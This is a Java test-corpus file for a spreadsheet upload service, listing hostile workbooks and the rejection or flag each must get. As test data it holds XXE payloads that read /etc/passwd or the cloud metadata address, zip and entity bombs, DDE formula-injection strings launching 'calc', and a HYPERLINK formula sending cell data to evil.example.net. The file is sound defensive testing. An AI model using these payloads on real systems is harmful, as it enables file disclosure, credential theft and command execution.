package dev.intake.parsing;

import static dev.intake.parsing.HostileCorpus.Outcome.ACCEPTED;
import static dev.intake.parsing.HostileCorpus.Outcome.FLAGGED;
import static dev.intake.parsing.HostileCorpus.Outcome.REJECTED;
import static org.assertj.core.api.Assertions.assertThat;

import dev.intake.model.CellRef;
import dev.intake.model.DateValue;
import dev.intake.model.Finding;
import dev.intake.model.FindingsReport;
import dev.intake.model.ProfileField;
import dev.intake.model.ReportStatus;
import dev.intake.model.Severity;
import dev.intake.report.ReportJson;
import dev.intake.report.WorkbookAnnotator;
import dev.intake.template.Layout;
import dev.intake.template.Layout.CaseStudyColumn;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.time.LocalDate;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.function.Supplier;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.ss.util.CellRangeAddress;
import org.apache.poi.xssf.usermodel.XSSFCell;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;

/**
 * The hostile-file corpus: every kind of dangerous, broken or odd upload the intake must answer, each
 * made by code in {@link HostileFiles} (nothing committed) and each with the outcome it must get.
 *
 * <ul>
 *   <li>{@link Outcome#REJECTED}: a REJECTED report whose one BLOCKER, about the whole file, has rule {@link #ruleId}.
 *   <li>{@link Outcome#FLAGGED}: an evaluated report (READY or ACTION_REQUIRED, as {@link #status}) with at
 *       least one finding of rule {@link #ruleId} that says why.
 *   <li>{@link Outcome#ACCEPTED}: a supported form read correctly: an evaluated report with no finding of rule
 *       {@link #ruleId}, the rule that would object to a misread value.
 * </ul>
 *
 * <p>{@code HostileFilesTest} runs every case through the real {@code Evaluator} in a JVM with a 256 MB
 * heap, with a 10 s hang guard on the evaluation, and then the case's own check. SECURITY.md points here.
 */
enum HostileCorpus {

  // ---- not a workbook, whatever the name says ------------------------------------------------------
  EMPTY_FILE(REJECTED, "file-empty", () -> new byte[0],
      v -> assertThat(v.reason().message()).contains("0 bytes")),
  CSV_RENAMED_XLSX(REJECTED, "file-type", HostileFiles::csv,
      v -> assertThat(v.reason().message()).contains("plain text (such as CSV)")),
  PDF_RENAMED_XLSX(REJECTED, "file-type", HostileFiles::pdf,
      v -> assertThat(v.reason().message()).contains("PDF")),
  PNG_RENAMED_XLSX(REJECTED, "file-type", HostileFiles::png,
      v -> assertThat(v.reason().message()).contains("image")),
  RANDOM_BYTES(REJECTED, "file-type", HostileFiles::randomBytes,
      v -> assertThat(v.reason().message()).contains("not an Excel workbook")),
  ZIP_THAT_IS_NOT_AN_OFFICE_DOCUMENT(REJECTED, "file-type", HostileFiles::zipOfText,
      v -> assertThat(v.reason().message()).contains("not an Office document")),
  LEGACY_XLS_RENAMED_XLSX(REJECTED, "file-legacy-xls", HostileFiles::legacyXls,
      v -> assertThat(v.reason().message()).contains(".xls")),
  ENCRYPTED_WORKBOOK(REJECTED, "file-encrypted", HostileFiles::encrypted,
      v -> assertThat(v.reason().message()).contains("password")),
  MACRO_ENABLED_BY_CONTENT_TYPE_AND_VBA_PROJECT(REJECTED, "file-macro", HostileFiles::macroEnabled,
      v -> assertThat(v.reason().message()).contains("macro-enabled")),
  MACRO_ENABLED_BY_CONTENT_TYPE_ONLY(REJECTED, "file-macro", HostileFiles::macroContentTypeOnly,
      v -> assertThat(v.reason().message()).contains("macro-enabled")),
  MACRO_ENABLED_BY_VBA_PROJECT_BIN_ONLY(REJECTED, "file-macro", HostileFiles::vbaProjectOnly,
      v -> assertThat(v.reason().message()).contains("macro-enabled")),

  // ---- damaged, empty, huge ------------------------------------------------------------------------
  TRUNCATED_ZIP_FIRST_100_BYTES(REJECTED, "file-corrupt", () -> HostileFiles.truncated(100),
      v -> assertThat(v.reason().message()).contains("truncated or damaged")),
  TRUNCATED_ZIP_FIRST_HALF(REJECTED, "file-corrupt", () -> HostileFiles.truncated(HostileFiles.ready().length / 2),
      v -> assertThat(v.reason().message()).contains("truncated or damaged")),
  TRUNCATED_ZIP_WITHOUT_END_OF_DIRECTORY(REJECTED, "file-corrupt",
      () -> HostileFiles.truncated(HostileFiles.ready().length - 22),
      v -> assertThat(v.reason().message()).contains("truncated or damaged")),
  SIXTY_MEGABYTES(REJECTED, "file-too-large", HostileFiles::sixtyMegabytes,
      v -> assertThat(v.reason().message()).contains("60.0 MB").contains("20 MB")),

  // ---- zip tricks ----------------------------------------------------------------------------------
  ZIP_BOMB_HIGH_INFLATE_RATIO(REJECTED, "file-zip-bomb", HostileFiles::zipBomb, v -> {
    assertThat(v.file().length).isLessThan(200_000);
    assertThat(v.reason().message()).contains(HostileFiles.partOf(Layout.PROFILE)).contains("zip bomb");
  }),
  ZIP_BOMB_LYING_ABOUT_ITS_SIZE(REJECTED, "file-zip-bomb", HostileFiles::zipBombLyingAboutItsSize,
      v -> assertThat(v.reason().message()).contains("zip bomb")),
  PART_DECLARING_MORE_THAN_THE_PART_LIMIT(REJECTED, "file-limits", HostileFiles::partOverTheLimit,
      v -> assertThat(v.reason().message()).contains("larger than 64 MB once unpacked")),
  TWENTY_THOUSAND_ZIP_ENTRIES(REJECTED, "file-limits", () -> HostileFiles.manyEntries(20_000),
      v -> assertThat(v.reason().message()).containsPattern("holds 200\\d\\d parts").contains("the limit is 1000")),
  DUPLICATE_ZIP_ENTRY_NAME(REJECTED, "file-corrupt", HostileFiles::duplicateEntry,
      v -> assertThat(v.reason().message()).contains("'xl/workbook.xml' twice")),
  DUPLICATE_ZIP_ENTRY_NAME_DIFFERING_IN_CASE(REJECTED, "file-corrupt", HostileFiles::duplicateEntryByCase,
      v -> assertThat(v.reason().message()).contains("twice")),

  // ---- XML entity attacks --------------------------------------------------------------------------
  BILLION_LAUGHS_IN_SHARED_STRINGS(REJECTED, "file-dtd", HostileFiles::billionLaughs,
      v -> assertThat(v.reason().message()).contains("xl/sharedStrings.xml").contains("billion laughs")),
  QUADRATIC_BLOWUP_ENTITY(REJECTED, "file-dtd", HostileFiles::quadraticBlowup,
      v -> assertThat(v.reason().message()).contains(HostileFiles.partOf(Layout.PROFILE))),
  XXE_LOCAL_FILE_ETC_PASSWD(REJECTED, "file-dtd",
      () -> HostileFiles.profileWithDoctype("<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>",
          "&xxe;"),
      v -> assertThat(v.reason().message()).contains(HostileFiles.partOf(Layout.PROFILE)).contains("XXE")
          .doesNotContain("root:")),
  XXE_LOCAL_SECRET_FILE(REJECTED, "file-dtd",
      () -> HostileFiles.profileWithDoctype("<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM \""
          + HostileFiles.secretFile().toUri() + "\">]>", "&xxe;"),
      v -> assertThat(v.json()).doesNotContain("CANARY-SECRET")),
  XXE_URL(REJECTED, "file-dtd",
      () -> HostileFiles.profileWithDoctype("<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM \""
          + HostileFiles.Canary.address("/entity") + "\">]>", "&xxe;"),
      v -> assertThat(v.reason().message()).contains("XXE")),
  XXE_URL_PARAMETER_ENTITY(REJECTED, "file-dtd",
      () -> HostileFiles.profileWithDoctype("<!DOCTYPE worksheet [<!ENTITY % remote SYSTEM \""
          + HostileFiles.Canary.address("/remote.dtd") + "\"> %remote;]>", "&leak;"),
      v -> assertThat(v.reason().message()).contains("XXE")),
  XXE_URL_EXTERNAL_DTD(REJECTED, "file-dtd",
      () -> HostileFiles.profileWithDoctype("<!DOCTYPE worksheet SYSTEM \""
          + HostileFiles.Canary.address("/external.dtd") + "\">", "Northwind"),
      v -> assertThat(v.reason().message()).contains("document type (DTD)")),
  XXE_METADATA_URL_IN_CONTENT_TYPES(REJECTED, "file-dtd", () -> metadataEntity("[Content_Types].xml"),
      v -> assertThat(v.reason().message()).contains("[Content_Types].xml")),
  XXE_METADATA_URL_IN_PACKAGE_RELATIONSHIPS(REJECTED, "file-dtd", () -> metadataEntity("_rels/.rels"),
      v -> assertThat(v.reason().message()).contains("_rels/.rels")),
  XXE_METADATA_URL_IN_WORKBOOK(REJECTED, "file-dtd", () -> metadataEntity("xl/workbook.xml"),
      v -> assertThat(v.reason().message()).contains("xl/workbook.xml")),
  XXE_METADATA_URL_IN_WORKBOOK_RELATIONSHIPS(REJECTED, "file-dtd", () -> metadataEntity("xl/_rels/workbook.xml.rels"),
      v -> assertThat(v.reason().message()).contains("xl/_rels/workbook.xml.rels")),
  XXE_METADATA_URL_IN_STYLES(REJECTED, "file-dtd", () -> metadataEntity("xl/styles.xml"),
      v -> assertThat(v.reason().message()).contains("xl/styles.xml")),

  // ---- too much ------------------------------------------------------------------------------------
  ONE_MILLION_ROWS(REJECTED, "file-limits", () -> HostileFiles.manyRows(1_000_000, true),
      v -> assertThat(v.reason().message()).contains("'Certifications' has more than 10000 rows")),
  ONE_MILLION_FORMATTED_EMPTY_ROWS(REJECTED, "file-limits", () -> HostileFiles.manyRows(1_000_000, false),
      v -> assertThat(v.reason().message()).contains("'Certifications' has more than 200000 rows")),
  FIVE_HUNDRED_SHEETS(REJECTED, "file-limits", () -> HostileFiles.manySheets(500),
      v -> assertThat(v.reason().message()).contains("500 sheets")),
  ROW_NUMBER_PAST_THE_GRID(REJECTED, "file-corrupt", () -> HostileFiles.outsideTheGrid("<row r=\"3\"",
      "<row r=\"2147483647\""),
      v -> assertThat(v.reason().message()).contains("'Case Studies' has a row 2147483647 outside Excel's grid")),
  COLUMN_PAST_THE_GRID(REJECTED, "file-corrupt", () -> HostileFiles.outsideTheGrid("<c r=\"B4\"",
      "<c r=\"" + "Z".repeat(5_000) + "4\""),
      v -> assertThat(v.reason().message()).contains("'Case Studies' has a cell 'ZZZZ").contains("…'")),
  THREE_MILLION_CELLS(REJECTED, "file-limits", () -> HostileFiles.manyCells(5_000, 600),
      v -> assertThat(v.reason().message()).contains("more than 200000 filled cells")),
  MILLIONS_OF_TINY_SHARED_STRINGS(REJECTED, "file-limits", () -> HostileFiles.manySharedStrings(3_700_000),
      v -> assertThat(v.reason().message()).contains("more than 200000 different texts")),
  A_MILLION_SHEETS_LISTED(REJECTED, "file-limits", () -> HostileFiles.bloated("xl/workbook.xml", "</sheets>",
      i -> "<sheet name=\"S" + i + "\" sheetId=\"" + (i + 10) + "\" r:id=\"rIdS" + i + "\"/>", 1_000_000),
      v -> assertThat(v.reason().message()).contains("1000005 sheets")),
  CELL_OF_32767_CHARACTERS(FLAGGED, ReportStatus.ACTION_REQUIRED, "case-study-unique-customer",
      () -> HostileFiles.build(b -> {
        String longest = HostileFiles.randomText(Limits.MAX_CELL_CHARS, 3);
        b.caseStudy(1, c -> c.set(CaseStudyColumn.CUSTOMER_NAME, longest));
        b.caseStudy(2, c -> c.set(CaseStudyColumn.CUSTOMER_NAME, longest));
      }),
      v -> {
        assertThat(v.only("case-study-unique-customer").location()).isEqualTo(at(Layout.CASE_STUDIES, "B3"));
        assertThat(v.only("case-study-unique-customer").message()).hasSizeLessThan(400).contains("…");
        assertThat(v.findings("cell-too-long")).isEmpty();
      }),
  CELL_OVER_32767_CHARACTERS_IN_SHARED_STRINGS(FLAGGED, ReportStatus.READY, "cell-too-long",
      () -> HostileFiles.overlongSharedString(100_000),
      v -> assertThat(v.only("cell-too-long").message()).contains("1 cell(s) of 'Case Studies'").contains("32767")),
  CELL_OVER_32767_CHARACTERS_INLINE_WITH_A_SPACE_AT_THE_LIMIT(FLAGGED, ReportStatus.READY, "cell-too-long",
      () -> HostileFiles.overlongInlineString(300_000),
      v -> assertThat(v.only("cell-too-long").message()).contains("1 cell(s) of 'Case Studies'")),

  // ---- formulas ------------------------------------------------------------------------------------
  HYPERLINK_FORMULA_TO_THE_METADATA_ADDRESS(FLAGGED, ReportStatus.ACTION_REQUIRED, "public-case-study-url",
      () -> HostileFiles.build(b -> b.tweak(wb -> {
        XSSFCell url = wb.getSheet(Layout.CASE_STUDIES).getRow(1).getCell(CaseStudyColumn.PUBLIC_URL.ordinal());
        url.setCellFormula("HYPERLINK(\"https://169.254.169.254/latest/meta-data/iam/\",\"Our case study\")");
        wb.getCreationHelper().createFormulaEvaluator().evaluateFormulaCell(url);
      })),
      v -> {
        Finding url = v.findings("public-case-study-url").get(0);
        assertThat(url.location()).isEqualTo(at(Layout.CASE_STUDIES, "M2"));
        assertThat(url.message()).contains("points at an IP address");
      }),
  HYPERLINK_FORMULA_IN_EVIDENCE(FLAGGED, ReportStatus.READY, "cell-formula",
      () -> HostileFiles.build(b -> b.tweak(wb -> {
        Cell evidence = wb.getSheet(Layout.SELF_ASSESSMENT).getRow(1).getCell(4);
        evidence.setCellFormula("HYPERLINK(\"https://evil.example.net/x.xlsx\",\"Evidence pack\")");
        wb.getCreationHelper().createFormulaEvaluator().evaluateFormulaCell(evidence);
      })),
      v -> {
        assertThat(v.only("cell-formula").location()).isEqualTo(at(Layout.SELF_ASSESSMENT, "E2"));
        assertThat(v.only("cell-formula").message()).contains("the formula was not run");
      }),
  EXTERNAL_REFERENCE_TO_ANOTHER_WORKBOOK(FLAGGED, ReportStatus.READY, "cell-external-link",
      () -> HostileFiles.externalReference(HostileFiles.Canary.address("/linked-book.xlsx")),
      v -> {
        assertThat(v.only("cell-external-link").message()).contains("never followed");
        assertThat(v.only("cell-external-link").location().sheet()).isEqualTo(Layout.SELF_ASSESSMENT);
        assertThat(v.only("workbook-external-links").message()).contains("links were not followed");
      }),
  CELLS_STARTING_WITH_FORMULA_CHARACTERS(FLAGGED, ReportStatus.ACTION_REQUIRED, "case-study-unique-customer",
      HostileCorpus::formulaLookalikes, HostileCorpus::neverWrittenBackUnescaped),

  // ---- invisible and right-to-left characters ------------------------------------------------------
  ZERO_WIDTH_SPACE_IN_CUSTOMER_NAME(FLAGGED, ReportStatus.ACTION_REQUIRED, "case-study-unique-customer",
      () -> HostileFiles.build(b -> {
        b.caseStudy(1, c -> c.set(CaseStudyColumn.CUSTOMER_NAME, "Acme Inc"));
        b.caseStudy(2, c -> c.set(CaseStudyColumn.CUSTOMER_NAME, "Acme\u200B Inc"));
      }),
      v -> {
        assertThat(v.only("case-study-unique-customer").location()).isEqualTo(at(Layout.CASE_STUDIES, "B3"));
        assertThat(v.only("case-study-unique-customer").message()).contains("'Acme Inc'");
      }),
  RIGHT_TO_LEFT_CUSTOMER_NAMES(FLAGGED, ReportStatus.ACTION_REQUIRED, "case-study-unique-customer",
      () -> HostileFiles.build(b -> {
        b.caseStudy(1, c -> c.set(CaseStudyColumn.CUSTOMER_NAME, "شركة الأفق للتقنية"));
        b.caseStudy(2, c -> c.set(CaseStudyColumn.CUSTOMER_NAME, "\u200Fשירותי ענן\u200F"));
        b.caseStudy(3, c -> c.set(CaseStudyColumn.CUSTOMER_NAME, "\u202Bשירותי\u2067 ענן\u2069\u202C"));
      }),
      v -> {
        assertThat(v.only("case-study-unique-customer").location()).isEqualTo(at(Layout.CASE_STUDIES, "B4"));
        assertThat(v.only("case-study-unique-customer").message()).contains("'שירותי ענן'");
      }),
  BIDI_OVERRIDE_AROUND_A_DUPLICATE_CUSTOMER(FLAGGED, ReportStatus.ACTION_REQUIRED, "case-study-unique-customer",
      () -> HostileFiles.build(b -> {
        b.caseStudy(1, c -> c.set(CaseStudyColumn.CUSTOMER_NAME, "Acme Inc"));
        b.caseStudy(2, c -> c.set(CaseStudyColumn.CUSTOMER_NAME, "\u202EAcme\u202D Inc\u202C"));
      }),
      v -> assertThat(v.only("case-study-unique-customer").message()).contains("'Acme Inc'")),
  BIDI_OVERRIDE_SPOOFING_A_DUPLICATE_CUSTOMER(FLAGGED, ReportStatus.READY, "cell-bidi-control",
      // Shown right to left, "cnI emcA" reads "Acme Inc": a reviewer sees case study 1's customer twice.
      () -> HostileFiles.build(b -> {
        b.caseStudy(1, c -> c.set(CaseStudyColumn.CUSTOMER_NAME, "Acme Inc"));
        b.caseStudy(2, c -> c.set(CaseStudyColumn.CUSTOMER_NAME, "\u202EcnI emcA"));
      }),
      v -> {
        Finding bidi = v.only("cell-bidi-control");
        assertThat(bidi.location()).isEqualTo(at(Layout.CASE_STUDIES, "B3"));
        assertThat(bidi.severity()).isEqualTo(Severity.WARNING);
        assertThat(bidi.message()).contains("'cnI emcA'");
        assertThat(v.findings("case-study-unique-customer")).isEmpty();
      }),

  // ---- layout the reader must see through ----------------------------------------------------------
  MERGED_HEADER_CELLS(FLAGGED, ReportStatus.ACTION_REQUIRED, "cell-merged",
      // As Excel merges: the range keeps only its top-left value, so the "Customer name" header is gone.
      () -> HostileFiles.build(b -> b.tweak(wb -> {
        Sheet cases = wb.getSheet(Layout.CASE_STUDIES);
        cases.addMergedRegion(new CellRangeAddress(0, 0, 0, 1));
        cases.getRow(0).getCell(1).setBlank();
      })),
      v -> {
        assertThat(v.only("cell-merged").location()).isEqualTo(at(Layout.CASE_STUDIES, "A1"));
        assertThat(v.only("template-column-missing").message()).contains("no 'Customer name' column");
      }),
  MERGED_TITLE_ABOVE_THE_HEADER(FLAGGED, ReportStatus.READY, "cell-merged",
      () -> HostileFiles.build(b -> b.tweak(wb -> {
        Sheet certs = wb.getSheet(Layout.CERTIFICATIONS);
        Sheets.titleAbove(certs, 1, "Certified people");
        certs.addMergedRegion(new CellRangeAddress(0, 0, 0, 3));
      })),
      v -> assertThat(v.only("cell-merged").message()).contains("A1:D1")),
  HIDDEN_SHEET(FLAGGED, ReportStatus.READY, "sheet-hidden",
      () -> HostileFiles.build(b -> b.tweak(wb -> wb.setSheetHidden(wb.getSheetIndex(Layout.CERTIFICATIONS), true))),
      v -> assertThat(v.only("sheet-hidden").location()).isEqualTo(CellRef.sheet(Layout.CERTIFICATIONS))),
  VERY_HIDDEN_SHEET(FLAGGED, ReportStatus.ACTION_REQUIRED, "sheet-hidden",
      () -> HostileFiles.build(b -> b
          .caseStudy(4, c -> c.set(CaseStudyColumn.STAGE, "Pilot"))
          .tweak(wb -> wb.setSheetVisibility(wb.getSheetIndex(Layout.CASE_STUDIES),
              org.apache.poi.ss.usermodel.SheetVisibility.VERY_HIDDEN))),
      v -> {
        assertThat(v.only("sheet-hidden").location()).isEqualTo(CellRef.sheet(Layout.CASE_STUDIES));
        assertThat(v.only("case-study-production").location()).isEqualTo(at(Layout.CASE_STUDIES, "K5"));
      }),
  HIDDEN_ROWS(FLAGGED, ReportStatus.ACTION_REQUIRED, "row-hidden",
      () -> HostileFiles.build(b -> b
          .caseStudy(3, c -> c.set(CaseStudyColumn.STAGE, "Pilot"))
          .tweak(wb -> {
            wb.getSheet(Layout.CASE_STUDIES).getRow(3).setZeroHeight(true);
            wb.getSheet(Layout.CERTIFICATIONS).getRow(5).setZeroHeight(true);
          })),
      v -> {
        assertThat(v.findings("row-hidden")).extracting(Finding::location).containsExactlyInAnyOrder(
            CellRef.row(Layout.CASE_STUDIES, 4), CellRef.row(Layout.CERTIFICATIONS, 6));
        assertThat(v.only("case-study-production").location()).isEqualTo(at(Layout.CASE_STUDIES, "K4"));
      }),

  // ---- dates typed as text: every supported form, and some that are not -----------------------------
  DATE_TEXT_ISO(ACCEPTED, "case-study-age", () -> goLive("2026-03-14"), v -> v.readsGoLive("2026-03-14")),
  DATE_TEXT_ISO_WITH_TIME(ACCEPTED, "case-study-age", () -> goLive("2026-03-14T09:30:00"),
      v -> v.readsGoLive("2026-03-14")),
  DATE_TEXT_ISO_WITH_SLASHES(ACCEPTED, "case-study-age", () -> goLive("2026/3/14"), v -> v.readsGoLive("2026-03-14")),
  DATE_TEXT_US_MONTH_DAY_YEAR(ACCEPTED, "case-study-age", () -> goLive("03/14/2026"),
      v -> v.readsGoLive("2026-03-14")),
  DATE_TEXT_DAY_MONTH_NAME_YEAR(ACCEPTED, "case-study-age", () -> goLive("14th March 2026"),
      v -> v.readsGoLive("2026-03-14")),
  DATE_TEXT_ABBREVIATED_DAY_MONTH_YEAR(ACCEPTED, "case-study-age", () -> goLive("14-Mar-2026"),
      v -> v.readsGoLive("2026-03-14")),
  DATE_TEXT_MONTH_NAME_DAY_YEAR(ACCEPTED, "case-study-age", () -> goLive("March 14, 2026"),
      v -> v.readsGoLive("2026-03-14")),
  DATE_SERIAL_NUMBER_WITHOUT_DATE_FORMAT(ACCEPTED, "case-study-age", () -> goLive(46095),
      v -> v.readsGoLive("2026-03-14")),
  DATE_TEXT_MONTH_NAME_YEAR(FLAGGED, ReportStatus.READY, "case-study-age", () -> goLive("Mar 2026"),
      v -> v.monthOnly("2026-03-01")),
  DATE_TEXT_YEAR_MONTH(FLAGGED, ReportStatus.READY, "case-study-age", () -> goLive("2026-03"),
      v -> v.monthOnly("2026-03-01")),
  DATE_TEXT_DAY_FIRST(FLAGGED, ReportStatus.ACTION_REQUIRED, "case-study-age", () -> goLive("31/12/2025"),
      v -> v.unsupportedDate("'31/12/2025'")),
  DATE_TEXT_DOTTED(FLAGGED, ReportStatus.ACTION_REQUIRED, "case-study-age", () -> goLive("2025.03.14"),
      v -> v.unsupportedDate("'2025.03.14'")),
  DATE_TEXT_WORD(FLAGGED, ReportStatus.ACTION_REQUIRED, "case-study-age", () -> goLive("yesterday"),
      v -> v.unsupportedDate("'yesterday'")),
  DATE_TEXT_MONTH_13(FLAGGED, ReportStatus.ACTION_REQUIRED, "case-study-age", () -> goLive("13/13/2025"),
      v -> v.unsupportedDate("'13/13/2025'")),
  DATE_TEXT_ZEROS(FLAGGED, ReportStatus.ACTION_REQUIRED, "case-study-age", () -> goLive("0000-00-00"),
      v -> v.unsupportedDate("'0000-00-00'")),
  DATE_TEXT_30_FEBRUARY(FLAGGED, ReportStatus.ACTION_REQUIRED, "case-study-age", () -> goLive("2026-02-30"),
      v -> v.unsupportedDate("'2026-02-30'"));

  /** What the intake must answer. */
  enum Outcome {
    /** Not read: a REJECTED report with one reason. */
    REJECTED,
    /** Read and evaluated, with a finding that says what is wrong or what was not read. */
    FLAGGED,
    /** Read as meant: no finding of the rule that would object to a misread value. */
    ACCEPTED
  }

  private final Outcome outcome;
  private final ReportStatus status;
  private final String ruleId;
  private final Supplier<byte[]> file;
  private final Consumer<Verdict> check;

  HostileCorpus(Outcome outcome, String ruleId, Supplier<byte[]> file, Consumer<Verdict> check) {
    this(outcome, outcome == REJECTED ? ReportStatus.REJECTED : ReportStatus.READY, ruleId, file, check);
  }

  HostileCorpus(Outcome outcome, ReportStatus status, String ruleId, Supplier<byte[]> file, Consumer<Verdict> check) {
    this.outcome = outcome;
    this.status = status;
    this.ruleId = ruleId;
    this.file = file;
    this.check = check;
  }

  Outcome outcome() {
    return outcome;
  }

  /** The status the report must have. */
  ReportStatus status() {
    return status;
  }

  /** The rule whose finding says why (REJECTED, FLAGGED), or which must stay silent (ACCEPTED). */
  String ruleId() {
    return ruleId;
  }

  /** The file, made afresh. */
  byte[] file() {
    return file.get();
  }

  /** The name it is uploaded under: every case claims to be a workbook. */
  String fileName() {
    return name().toLowerCase(java.util.Locale.ROOT).replace('_', '-') + ".xlsx";
  }

  void check(Verdict verdict) {
    check.accept(verdict);
  }

  // ---- what a case checks beyond its outcome -------------------------------------------------------

  /** The report on a file, with the questions the checks ask of it. */
  record Verdict(byte[] file, FindingsReport report) {

    /** The one reason of a REJECTED report. */
    Finding reason() {
      return report.findings().get(0);
    }

    List<Finding> findings(String rule) {
      return report.findings().stream().filter(f -> f.ruleId().equals(rule)).toList();
    }

    Finding only(String rule) {
      List<Finding> found = findings(rule);
      assertThat(found).as("findings of %s", rule).hasSize(1);
      return found.get(0);
    }

    String json() {
      return ReportJson.write(report);
    }

    ParseOutcome.Parsed parsed() {
      ParseOutcome outcome = new WorkbookParser().parse(file, "again.xlsx");
      assertThat(outcome).isInstanceOf(ParseOutcome.Parsed.class);
      return (ParseOutcome.Parsed) outcome;
    }

    DateValue goLive() {
      return DateValue.of(parsed().assessment().caseStudies().get(0).goLiveDate());
    }

    void readsGoLive(String iso) {
      assertThat(goLive()).isEqualTo(new DateValue.Exact(LocalDate.parse(iso)));
      assertThat(report.findings()).noneMatch(f -> at(Layout.CASE_STUDIES, "J2").equals(f.location()));
    }

    void monthOnly(String firstDay) {
      assertThat(goLive()).isEqualTo(new DateValue.MonthOnly(LocalDate.parse(firstDay)));
      Finding note = only("case-study-age");
      assertThat(note.severity()).isEqualTo(Severity.INFO);
      assertThat(note.location()).isEqualTo(at(Layout.CASE_STUDIES, "J2"));
      assertThat(note.message()).contains("gives only a month").contains(firstDay);
    }

    void unsupportedDate(String quoted) {
      assertThat(goLive()).isInstanceOf(DateValue.Invalid.class);
      Finding blocker = only("case-study-age");
      assertThat(blocker.severity()).isEqualTo(Severity.BLOCKER);
      assertThat(blocker.location()).isEqualTo(at(Layout.CASE_STUDIES, "J2"));
      assertThat(blocker.message()).contains(quoted).contains("not a date in a supported form");
      assertThat(blocker.remediation()).contains(DateValue.FORMS);
    }
  }

  static CellRef at(String sheet, String cell) {
    return new CellRef(sheet, cell, dev.intake.model.A1.row(cell));
  }

  private static byte[] metadataEntity(String part) {
    return HostileFiles.externalEntityIn(part, "http://169.254.169.254/latest/meta-data/");
  }

  private static byte[] goLive(Object value) {
    return HostileFiles.build(b -> b.caseStudy(1, c -> c.set(CaseStudyColumn.GO_LIVE_DATE, value)));
  }

  /** Partner text that a spreadsheet would run as a formula if it were written into a cell as is. */
  static final List<String> FORMULA_LOOKALIKES = List.of(
      "=HYPERLINK(\"http://evil.example.net/?\"&A1,\"Click\")",
      "+cmd|' /C calc'!A0",
      "-2+3+cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0");

  /**
   * Partner name, id and case-study customers that start with {@code = + - @}; case studies 3 and 4 name
   * the customers of 1 and 2 again, so the findings quote them.
   */
  private static byte[] formulaLookalikes() {
    return HostileFiles.build(b -> {
      b.profile(ProfileField.PARTNER_NAME, FORMULA_LOOKALIKES.get(0));
      b.profile(ProfileField.PARTNER_ID, FORMULA_LOOKALIKES.get(1));
      for (int i = 0; i < 4; i++) {
        String name = FORMULA_LOOKALIKES.get(i % 2 == 0 ? 0 : 1);
        b.caseStudy(i + 1, c -> c.set(CaseStudyColumn.CUSTOMER_NAME, name));
      }
      b.control("DOC-001", c -> c.evidence = FORMULA_LOOKALIKES.get(2));
      b.control("DOC-001", c -> c.comments = FORMULA_LOOKALIKES.get(3));
    });
  }

  /**
   * Runs the real annotator on the report and reads every cell of what it writes: nothing the intake
   * wrote starts like a formula, no cell became a formula, and the partner's own look-alikes are still
   * the inert text cells they were.
   */
  private static void neverWrittenBackUnescaped(Verdict v) {
    assertThat(v.findings("case-study-unique-customer")).extracting(Finding::message)
        .anySatisfy(m -> assertThat(m).contains("'=HYPERLINK"))
        .anySatisfy(m -> assertThat(m).contains("'+cmd"));
    WorkbookAnnotator.Annotation annotation = new WorkbookAnnotator().annotate(v.file(), v.report());
    assertThat(annotation.annotatedCopy()).isTrue();
    Map<String, String> partnerCells = textCells(v.file());
    try (XSSFWorkbook out = new XSSFWorkbook(new ByteArrayInputStream(annotation.workbook()))) {
      int lookalikesKept = 0;
      for (Sheet sheet : out) {
        boolean ours = !partnerCells.containsKey(sheet.getSheetName() + "!");
        for (Row row : sheet) {
          for (Cell cell : row) {
            assertThat(cell.getCellType()).as("%s!%s", sheet.getSheetName(), cell.getAddress())
                .isNotEqualTo(CellType.FORMULA);
            if (cell.getCellType() != CellType.STRING) {
              continue;
            }
            String text = cell.getStringCellValue();
            String key = sheet.getSheetName() + "!" + cell.getAddress();
            if (ours || !text.equals(partnerCells.get(key))) {
              assertThat(text).as(key).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
                  .doesNotStartWith("@");
            } else if (FORMULA_LOOKALIKES.contains(text)) {
              lookalikesKept++;
            }
            if (cell.getCellComment() != null) {
              String comment = cell.getCellComment().getString().getString();
              assertThat(comment).as("comment on %s", key).doesNotStartWith("=").doesNotStartWith("+")
                  .doesNotStartWith("-").doesNotStartWith("@");
            }
          }
        }
      }
      assertThat(lookalikesKept).as("the partner's own look-alike cells, kept as text").isEqualTo(8);
      Sheet findings = out.getSheetAt(0);
      assertThat(findings.getSheetName()).isEqualTo("Findings");
      assertThat(findings.getRow(3).getCell(1).getStringCellValue()).startsWith("'=HYPERLINK");
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** The text cells of the partner's workbook by "Sheet!A1", and a "Sheet!" key per sheet. */
  private static Map<String, String> textCells(byte[] xlsx) {
    Map<String, String> cells = new HashMap<>();
    try (XSSFWorkbook wb = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
      for (Sheet sheet : wb) {
        cells.put(sheet.getSheetName() + "!", "");
        for (Row row : sheet) {
          for (Cell cell : row) {
            if (cell.getCellType() == CellType.STRING) {
              cells.put(sheet.getSheetName() + "!" + cell.getAddress(), cell.getStringCellValue());
            }
          }
        }
      }
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
    return cells;
  }
}
